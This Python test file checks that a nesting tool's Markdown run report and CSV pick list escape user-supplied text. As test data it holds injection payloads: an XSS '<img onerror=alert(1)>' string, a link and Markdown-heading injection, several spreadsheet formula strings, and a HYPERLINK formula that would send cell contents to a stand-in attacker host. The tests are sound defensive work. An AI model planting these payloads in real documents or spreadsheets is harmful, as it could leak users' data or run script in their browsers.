"""The run report says which engines it is about, and shows what users wrote as text."""

from __future__ import annotations

import csv
import io

import pytest
from markdown_it import MarkdownIt

from nestflow.geometry import DrawingFailure
from nestflow.report import (
    EngineSummary,
    LayoutRow,
    RunSummary,
    engines_compared,
    pick_list_csv,
    report_markdown,
)
from nestflow.report.escape import csv_cell, markdown_code, markdown_text
from nestflow.report.models import PartProgress


def _summary(*engines: str) -> RunSummary:
    return RunSummary(
        job_name="j",
        mode="production",
        push_engine="none",
        material="S235JR",
        thickness=3.0,
        density=7.85,
        engines=[EngineSummary(engine=name) for name in engines],
    )


def test_a_report_of_two_engines_compares_them() -> None:
    assert engines_compared(_summary("cloudnest", "almacam")) == "CloudNest and AlmaCAM compared"


def test_a_report_of_three_engines_lists_them_all() -> None:
    text = engines_compared(_summary("cloudnest", "almacam", "local"))
    assert text == "CloudNest, AlmaCAM and Local solver compared"


def test_a_report_of_one_engine_names_only_it() -> None:
    assert engines_compared(_summary("local")) == "Local solver"


# --- outputs safe to open: markdown artifacts and the pick list --------------------------------
#
# The regressions (issue 18): the Prefect report wrote the job name, material and file names
# raw, so a job named ``[c](javascript:...)`` was a link, ``<img onerror=...>`` was HTML and a
# line break plus ``# H1`` a heading; pick-list.csv cells started with ``=`` or ``@``. The report
# is rendered here by a CommonMark parser with tables (markdown-it, as the Prefect UI's), and the
# pick list read back as a spreadsheet would read its cells.

#: A link markdown-it would make (it refuses ``javascript:`` links itself; other renderers may not).
LINK = "[c](https://evil.example/x)"
IMG = "<img src=x onerror=alert(1)>"
HEADING = "A17\n# H1"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


def _hostile(**update: object) -> RunSummary:
    row = LayoutRow(
        engine="local",
        layout_id="@local-1",
        name="Layout 1",
        sheet="3000x1500",
        sheet_length=3000.0,
        sheet_height=1500.0,
        quantity=2,
        used_length=1200.0,
        parts=3,
        parts_area=9000.0,
        part_counts={"a|b": 1, FORMULA: 2},
        drawings={"a|b": "a|b.dxf", FORMULA: "=cmd.dxf"},
        files={"dxf": "/out/A17/local/layout.dxf"},
    )
    summary = _summary("local").model_copy(
        update={"engines": [EngineSummary(engine="local", layouts=[row])], "recommended": "local"}
    )
    return summary.model_copy(update=update)


def test_a_job_named_like_a_link_is_no_link_in_the_report() -> None:
    html = _html(report_markdown(_hostile(job_name=LINK)))
    assert "<a " not in html and LINK in html


def test_a_material_holding_html_is_shown_as_text_in_the_report() -> None:
    html = _html(report_markdown(_hostile(material=IMG)))
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_a_line_break_in_the_job_name_starts_no_heading() -> None:
    html = _html(report_markdown(_hostile(job_name=HEADING)))
    assert html.count("<h1>") == 1 and "<h1>A17 # H1: production run</h1>" in html


def test_a_pipe_in_a_part_name_stays_inside_its_table_cell() -> None:
    summary = _hostile(
        parts=[
            PartProgress(
                part="a|b", drawing="a|b.dxf", sha256="0" * 64, ordered=1, already_cut=0, cut_now=1
            )
        ]
    )
    html = _html(report_markdown(summary))
    assert "<td>a|b</td><td>a|b.dxf</td>" in html.replace("\n", "")


def test_a_backtick_in_a_rejected_file_name_does_not_end_its_code_span() -> None:
    failure = DrawingFailure(file="x`<img src=y>`.dxf", kind="unreadable", message=IMG)
    html = _html(report_markdown(_hostile(rejected=[failure])))
    assert "<code>x`&lt;img src=y&gt;`.dxf</code>" in html and "<img" not in html


def test_vendor_texts_in_warnings_and_errors_are_escaped() -> None:
    html = _html(report_markdown(_hostile(warnings=[LINK], notes=[HEADING + "\n" + IMG])))
    assert "<a " not in html and "<img" not in html and html.count("<h1>") == 1


def test_a_pick_list_cell_that_would_be_a_formula_starts_with_a_quote() -> None:
    summary = _hostile(job_name=FORMULA)
    (row,) = [
        r
        for r in csv.DictReader(io.StringIO(pick_list_csv(summary, summary.engines[0])))
        if r["part"].endswith('"click")')
    ]
    assert (row["part"], row["drawing"], row["layout id"]) == (
        "'" + FORMULA,
        "'=cmd.dxf",
        "'@local-1",
    )


def test_pick_list_figures_stay_numbers() -> None:
    summary = _hostile()
    text = pick_list_csv(summary, summary.engines[0])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {(r["sheet length (mm)"], r["sheets"], r["total"]) for r in rows} == {
        ("3000", "2", "2"),
        ("3000", "2", "4"),
    }


@pytest.mark.parametrize("cell", ["=1+1", "+cmd", "-1+cmd", "@SUM(A1)", "\tx", "\rx", "-"])
def test_a_text_starting_a_formula_is_neutralised(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+2.5", "-1e3", "0", "S235JR", "bracket.dxf"])
def test_a_number_or_a_plain_text_is_left_as_it_is(cell: str) -> None:
    assert csv_cell(cell) == cell


def test_a_path_in_a_code_span_shows_whole_whatever_backticks_it_holds() -> None:
    assert _html(markdown_code("a``b`c")) == "<p><code>a``b`c</code></p>\n"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("# H1", "<p># H1</p>\n"),
        ("1. first", "<p>1. first</p>\n"),
        ("- item", "<p>- item</p>\n"),
        ("> quote", "<p>&gt; quote</p>\n"),
        ("*bold* _em_ ~~del~~", "<p>*bold* _em_ ~~del~~</p>\n"),
        ("open_contour.dxf", "<p>open_contour.dxf</p>\n"),
        ("a \\ b", "<p>a \\ b</p>\n"),
        ("![x](http://evil/x.png)", "<p>![x](http://evil/x.png)</p>\n"),
    ],
)
def test_markdown_text_reads_as_written(text: str, shown: str) -> None:
    assert _html(markdown_text(text)) == shown
